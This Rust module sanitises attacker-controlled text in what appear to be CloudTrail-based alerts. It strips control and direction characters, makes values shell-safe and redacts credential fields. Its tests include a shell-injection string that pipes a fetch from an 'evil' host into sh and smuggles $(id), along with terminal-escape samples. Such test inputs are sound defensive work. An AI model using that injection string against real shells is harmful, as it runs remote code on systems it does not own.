//! Text that someone else wrote, made fit for a story, a command line or a terminal.
//!
//! Whoever makes an API call chooses its user agent, session name and half of its parameters. Such text
//! may try to draw a second alert with a newline, to recolour a terminal, to turn reading order around,
//! or to smuggle a command into a response step that somebody pastes into a shell.
//!
//! Invariant: what leaves here is one line, bounded, and without a character that acts instead of showing.

use serde_json::Value;

use crate::model::bounded;

/// What stands for a secret that was removed.
pub const REMOVED: &str = "[removed]";

/// Returns `text` on one line of at most `max_bytes`: white space as spaces, characters that act as `�`.
pub fn one_line(text: &str, max_bytes: usize) -> String {
    // Cutting first keeps the work bounded; a mark takes no more bytes than most of what it replaces.
    let shown: String = bounded(text, max_bytes).chars().map(shown).collect();
    bounded(&shown, max_bytes).into_owned()
}

fn shown(letter: char) -> char {
    match letter {
        '\t' | '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
        letter if letter.is_control() => '\u{fffd}',
        // Zero-width and direction marks, language tags, and the byte order mark: they change how others are read.
        '\u{ad}'
        | '\u{61c}'
        | '\u{180e}'
        | '\u{200b}'..='\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e007f}' => '\u{fffd}',
        letter => letter,
    }
}

/// Returns `text` as it may stand in a command that is pasted into a shell, whatever quotes surround it.
///
/// Letters, digits and the marks that ARNs, names and addresses are made of stay; the rest becomes `_`.
/// Quoting would not do: the author of a step may have put quotes there already, and two pairs cancel out.
pub fn for_shell(text: &str, max_bytes: usize) -> String {
    let safe = |letter: char| match letter {
        letter if letter.is_ascii_alphanumeric() => letter,
        '_' | '+' | '=' | ',' | '.' | '@' | ':' | '/' | '-' | '*' => letter,
        letter if !letter.is_ascii() && letter.is_alphanumeric() => letter,
        _ => '_',
    };
    // `bounded` marks its cut with `…`, which is no letter and would become one more `_`: wanted here.
    bounded(text, max_bytes).chars().map(safe).collect()
}

/// Returns whether a member called `key` holds a secret that must not travel with an alert.
///
/// CloudTrail hides most of them itself; the credentials in the answers of STS are there for all to read.
pub fn is_secret(key: &str) -> bool {
    const SECRET: [&str; 13] = [
        "sessionToken",
        "secretAccessKey",
        "password",
        "oldPassword",
        "newPassword",
        "masterUserPassword",
        "authToken",
        "authorizationToken",
        "clientSecret",
        "privateKey",
        "secretString",
        "secretBinary",
        "plaintext",
    ];
    SECRET.iter().any(|secret| secret.eq_ignore_ascii_case(key))
}

/// Removes every secret below `value`. Nulls stay: that there was nothing is worth knowing.
pub fn remove_secrets(value: &mut Value) {
    match value {
        Value::Object(members) => {
            for (key, member) in members.iter_mut() {
                if is_secret(key) && !member.is_null() {
                    *member = Value::from(REMOVED);
                } else {
                    remove_secrets(member);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(remove_secrets),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_acts_is_shown_and_not_done() {
        assert_eq!(one_line("a\r\nb\tc", 100), "a  b c");
        assert_eq!(one_line("\u{1b}[31mred\u{7}", 100), "\u{fffd}[31mred\u{fffd}");
        assert_eq!(one_line("user\u{202e}nimda\u{200b}", 100), "user\u{fffd}nimda\u{fffd}");
        assert_eq!(one_line("Zoë 東京", 100), "Zoë 東京");
    }

    #[test]
    fn a_shell_finds_nothing_to_do_in_a_value() {
        let arn = "arn:aws:iam::111122223333:role/Ops-1+x=y,z@w.v_u";
        assert_eq!(for_shell(arn, 100), arn);
        assert_eq!(for_shell("x'; curl evil|sh #`$(id)`", 100), "x___curl_evil_sh_____id__");
    }

    #[test]
    fn secrets_go_and_the_rest_stays() {
        let mut value = serde_json::json!({"responseElements": {"credentials":
            [{"accessKeyId": "ASIAEXAMPLE", "sessionToken": "Fwo...", "secretaccesskey": null}]}});
        remove_secrets(&mut value);
        let expected = serde_json::json!({"responseElements": {"credentials":
            [{"accessKeyId": "ASIAEXAMPLE", "sessionToken": "[removed]", "secretaccesskey": null}]}});
        assert_eq!(value, expected);
    }

    proptest! {
        #[test]
        fn is_always_one_bounded_line(text: String, max in 8usize..64) {
            let line = one_line(&text, max);
            prop_assert!(line.len() <= max);
            prop_assert!(!line.chars().any(char::is_control));
        }
    }
}
